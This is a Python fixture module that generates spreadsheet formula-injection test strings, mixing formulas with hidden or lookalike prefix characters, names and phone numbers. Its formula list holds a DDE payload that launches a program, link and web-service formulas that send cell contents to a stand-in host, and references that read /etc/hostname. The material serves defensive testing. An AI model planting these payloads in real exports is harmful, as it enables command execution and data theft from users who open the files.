"""Texts that a spreadsheet program might take for a formula, and texts that have to come back as they were."""

from itertools import product

_CALC = "cmd|' /C calc'!A0"
FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1;1)",
    "=SUM(1,1)",
    "=SUM(1;1)",
    '=HYPERLINK("http://elsewhere.example/?"&A1;"Open")',
    '=HYPERLINK("http://elsewhere.example/?"&A1,"Open")',
    '=WEBSERVICE("http://elsewhere.example/")',
    '=IMPORTXML(CONCAT("http://elsewhere.example/?",A1),"//a")',
    f"={_CALC}",
    f"+{_CALC}",
    f"-2+3+{_CALC}",
    f"@SUM(1+1)*{_CALC}",
    '=DDE("soffice";"/etc/hostname";"A1")',
    "='file:///etc/hostname'#$Sheet1.A1",
    '=-"1"',
    "=+380501234567",
    "+380501234567+0",
    "{=1+1}",
    "＝1+1",
    "＋1＋1",
    "－1+1",
    "＠SUM(1)",
    "﹦1+1",
    "⁼1+1",
    "−1+1",
)
# What stands before it: dropped by one program, the end of a cell to another, or a way out of the quotes.
_SPACES = ["", "\t", "\r", "\n", "\r\n", " ", "  ", "\xa0", "\u2003", "\u3000", "\u2028", "\x0b", "\x0c", "\x85"]
_UNSEEN = ["\x00", "\x01", "\x1f", "\xad", "\u200b", "\u200e", "\u2060", "\u202e", "\ufeff", "\u3164"]
_QUOTES = ("'", '"', '""', '","', '";"', '"\n', "';'", '\\"')
_ENDS = ("1;", "1\t", "1\n", "1\r", "1; ", "1;\u00a0", '1";', "1;;", "1,", "1\t\ufeff", "1|", '1;"', "1;\x00")
BEFORE = (*_SPACES, *_UNSEEN, *_QUOTES, *_ENDS)

NAMES = (
    "Коваленко Іван Петрович",
    "Нечуй-Левицький Іван Семенович",
    "О'Коннор Дар'я",
    "Дем’яненко Лук’ян",
    "Кравцовʼ Ілля",
    "Ґалаґан Єлизар Юхимович",
    "d'Artagnan Jean-Luc",
    "Müller-Öz, Ayşe",
    'Шевчук "Сокіл" Остап',
    "'Абд ар-Рахман",
    "Гайдар; він же Лис",
    "Іван — Ян",
    "Name = unknown",
)
TELEPHONES = (
    "+380501234567",
    "+380 50 123 45 67",
    "0501234567",
    "050 123 45 67",
    "(050) 123-45-67",
    "00380501234567",
    "067",
    "0012345678",
    "12345678901234567890",
    "1648",
)


def payloads(count: int) -> list[str]:
    """So many of them, of every formula and with everything before it, spread evenly."""
    every = [before + formula for formula, before in product(FORMULAS, BEFORE)]
    return [every[place * len(every) // count] for place in range(count)]
